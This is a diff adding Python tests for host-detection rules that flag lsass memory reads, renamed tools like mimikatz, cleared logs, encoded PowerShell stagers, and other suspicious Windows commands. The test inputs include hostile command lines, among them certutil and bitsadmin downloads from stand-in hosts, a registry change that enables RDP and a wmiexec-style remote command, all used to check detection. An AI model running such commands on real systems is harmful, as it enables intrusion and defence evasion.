@@ -1,0 +1,147 @@
+"""Host findings' rules on events of our own making: each rule fires, its near misses do not
+(analytics.host_findings, analytics.host_finding_rules), copies of one act count once, a fan-out
+cluster's process carries its hits, and a benign verdict covers only the hits it judged."""
+
+from __future__ import annotations
+
+from analytics.host_finding_words import covered_by_verdict, host_record, verdict_scope
+from analytics.host_findings import Hit, carried_subjects, group_by_host, hits_of_events
+
+MIMI = r"C:\Users\bob\Desktop\mimikatz.exe"
+LSASS = r"C:\Windows\system32\lsass.exe"
+
+
+def access(source: str, mask: str, *, guid: str = "g1", target: str = LSASS, event_id: str = "e-acc") -> tuple:
+    return (event_id, "sysmon:process_access", 100.0,
+            {"process.executable": source, "process.guid": guid, "target.process.executable": target,
+             "target.granted_access": mask})
+
+
+def create(image: str, command: str, *, parent: str = r"C:\Windows\explorer.exe", original: str | None = None,
+           event_id: str = "e-c", ts: float = 50.0, guid: str = "g1", kind: str = "sysmon:process_create") -> tuple:
+    fields = {"process.executable": image, "process.command_line": command, "process.parent.executable": parent,
+              "process.guid": guid}
+    if original is not None:
+        fields["process.pe.original_file_name"] = original
+    return (event_id, kind, ts, fields)
+
+
+def rules_of(*events: tuple) -> list[str]:
+    return [h.rule for h in hits_of_events("ws-1", list(events))]
+
+
+def test_lsass_read_by_a_tool_fires_and_names_the_mask():
+    hits = hits_of_events("pc04", [access(MIMI, "0x1010")])
+    assert [(h.rule, h.host, h.event_id) for h in hits] == [("lsass_read", "pc04", "e-acc")]
+    assert "0x1010" in hits[0].detail and "mimikatz.exe" in hits[0].detail
+
+
+def test_lsass_near_misses_query_masks_system_readers_other_targets():
+    assert rules_of(access(MIMI, "0x1000"), access(MIMI, "0x1400")) == []  # query only: no memory read
+    assert rules_of(access(MIMI, "0x20")) == []  # write-only right: not a read
+    assert rules_of(access(MIMI, "0x1010", target=r"C:\Windows\notepad.exe")) == []
+    assert rules_of(access(r"C:\Windows\System32\csrss.exe", "0x1fffff"),
+                    access(r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2\MsMpEng.exe", "0x1410")) == []
+    # the same names elsewhere are no system readers
+    assert rules_of(access(r"C:\Users\Public\csrss.exe", "0x1410")) == ["lsass_read"]
+
+
+def test_process_explorer_is_allowed_only_when_its_pe_name_agrees():
+    procexp = r"C:\Tools\Sysinternals\procexp64.exe"
+    assert rules_of(create(procexp, procexp, original="procexp64.exe"), access(procexp, "0x1410")) == []
+    assert rules_of(create(procexp, procexp, original="mimikatz.exe"), access(procexp, "0x1410")) == [
+        "renamed_tool", "lsass_read"]
+    assert rules_of(access(procexp, "0x1410")) == ["lsass_read"]  # its creation unseen: not vouched for
+
+
+def test_renamed_tool_from_the_creation_or_from_its_own_image_load():
+    assert rules_of(create(r"C:\Users\Public\svcupd.exe", "svcupd.exe", original="PowerShell.EXE")) == ["renamed_tool"]
+    load = ("e-load", "sysmon:image_load", 60.0,
+            {"process.executable": r"C:\Users\wardog\Desktop\wardog.exe",
+             "file.path": r"C:\Users\wardog\Desktop\wardog.exe", "file.pe.original_file_name": "mimikatz.exe"})
+    hits = hits_of_events("workstation5", [load])
+    assert [h.rule for h in hits] == ["renamed_tool"] and "mimikatz.exe" in hits[0].detail
+    # near misses: the binary under its own name, a DLL it loaded, a vendor's own original name
+    assert rules_of(create(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell.exe",
+                           original="PowerShell.EXE")) == []
+    dll = ("e-dll", "sysmon:image_load", 60.0, {"process.executable": r"C:\x\wardog.exe",
+                                                "file.path": r"C:\x\mimi.dll", "file.pe.original_file_name": "mimikatz.exe"})
+    assert rules_of(dll) == []
+    assert rules_of(create(r"C:\Program Files\7-Zip\7zG.exe", "7zG.exe", original="7zg.exe")) == []
+
+
+def test_log_cleared():
+    cleared = ("e-1102", "windows:log_cleared", 70.0,
+               {"event.code": "1102", "event.channel": "Security", "user.name": "corp\\eve"})
+    hits = hits_of_events("pc01", [cleared])
+    assert [h.rule for h in hits] == ["log_cleared"] and "corp\\eve" in hits[0].detail
+
+
+def test_stager_needs_a_script_host_or_office_parent():
+    enc = "powershell.exe -noP -sta -w 1 -enc SQBmACgAJABQAFMAVgBFAFIAUwBpAE8AbgBUAGEAQgBsAEUA"
+    ps = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
+    assert rules_of(create(ps, enc, parent=r"C:\Windows\System32\wscript.exe")) == ["script_stager"]
+    assert rules_of(create(ps, enc, parent=r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE")) == [
+        "script_stager"]
+    # near misses: an encoded command from a scheduler or a shell, a script host with a plain command
+    assert rules_of(create(ps, enc, parent=r"C:\Windows\System32\svchost.exe")) == []
+    assert rules_of(create(ps, "powershell.exe -ExecutionPolicy Bypass -File inventory.ps1",
+                           parent=r"C:\Windows\System32\wscript.exe")) == []
+    assert rules_of(create(ps, "powershell.exe -exec bypass -c Get-Date", parent=r"C:\Windows\System32\wscript.exe")) == []
+
+
+def test_download_defence_and_remote_exec_command_lines():
+    cu = r"C:\Windows\System32\certutil.exe"
+    assert rules_of(create(cu, "certutil.exe -urlcache -f https://evil.example/a.txt a.exe")) == ["lolbin_download"]
+    assert rules_of(create(cu, "certutil.exe -decode a.b64 a.exe")) == ["lolbin_download"]
+    assert rules_of(create(cu, "certutil.exe -verify cert.cer")) == []
+    assert rules_of(create(r"C:\Windows\System32\bitsadmin.exe",
+                           "bitsadmin.exe /transfer job /priority Foreground https://x.example/a.ps1 C:\\t\\a.ps1")) == [
+        "lolbin_download"]
+    assert rules_of(create(r"C:\Windows\System32\bitsadmin.exe", "bitsadmin.exe /list")) == []
+    assert rules_of(create(r"C:\Windows\System32\desktopimgdownldr.exe",
+                           "desktopimgdownldr.exe /lockscreenurl:https://a.example/x.7z /eventName:x")) == ["lolbin_download"]
+    reg = r"C:\Windows\System32\reg.exe"
+    on = r'reg.exe add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f'
+    assert rules_of(create(reg, on)) == ["defence_change"]
+    assert rules_of(create(reg, on.replace("/d 0", "/d 1"))) == []  # RDP turned off: no finding
+    assert rules_of(create(reg, r"reg.exe query HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server /v fDenyTSConnections")) == []
+    wmiexec = r"cmd.exe /Q /c whoami /all 1> \\127.0.0.1\ADMIN$\__1556656369.7 2>&1"
+    assert rules_of(create(r"C:\Windows\System32\cmd.exe", wmiexec, parent=r"C:\Windows\System32\wbem\WmiPrvSE.exe")) == [
+        "remote_exec"]
+    assert rules_of(create(r"C:\Windows\System32\cmd.exe", r"cmd.exe /Q /c dir 1> C:\Windows\Temp\out.txt 2>&1")) == []
+
+
+def test_one_act_logged_twice_counts_once():
+    cu = r"C:\Windows\System32\certutil.exe"
+    command = "certutil.exe -urlcache -f https://evil.example/a.txt a.exe"
+    twice = [create(cu, command, event_id="sysmon-1"), create(cu, command, event_id="4688", ts=50.5,
+                                                              kind="winsec:process_create")]
+    assert [h.event_id for h in hits_of_events("ws-1", twice)] == ["sysmon-1"]
+    later = [create(cu, command, event_id="a"), create(cu, command, event_id="b", ts=500.0)]
+    assert len(hits_of_events("ws-1", later)) == 2
+
+
+def _hit(host: str, rule: str, command: str, event_id: str) -> Hit:
+    return Hit(host, rule, 1.0, event_id, r"C:\p.exe", command, f"c:\\p.exe|{command}", "matched")
+
+
+def test_a_clusters_process_carries_its_hits_everywhere_and_one_finding_per_host():
+    hits = [_hit("ws-1", "script_stager", "p -enc aaa", "1"), _hit("ws-2", "script_stager", "p -enc aaa", "2"),
+            _hit("ws-3", "lsass_read", "other", "3"), _hit("ws-3", "log_cleared", "x", "4")]
+    carried = carried_subjects(hits, {"ws-1": {"p -enc aaa"}})
+    assert carried == {("script_stager", "c:\\p.exe|p -enc aaa")}  # ws-2's straggler too
+    kept = [h for h in hits if (h.rule, h.subject) not in carried]
+    findings = group_by_host(kept)
+    assert [(f.host, f.rules, f.risk) for f in findings] == [("ws-3", ["lsass_read", "log_cleared"], 90.0)]
+
+
+def test_a_benign_verdict_covers_the_hits_it_judged_not_a_new_one():
+    first = group_by_host([_hit("ws-3", "lsass_read", "backup agent", "1")])[0]
+    pivot = ("host", "ws-3")
+    judged = {pivot: {pivot, *verdict_scope(host_record(first))}}
+    again = group_by_host([_hit("ws-3", "lsass_read", "backup agent", "9")])[0]
+    assert covered_by_verdict(pivot, host_record(again), {pivot}, judged)
+    more = group_by_host([_hit("ws-3", "lsass_read", "backup agent", "9"), _hit("ws-3", "log_cleared", "x", "10")])[0]
+    assert not covered_by_verdict(pivot, host_record(more), {pivot}, judged)
+    assert not covered_by_verdict(pivot, host_record(again), set(), judged)
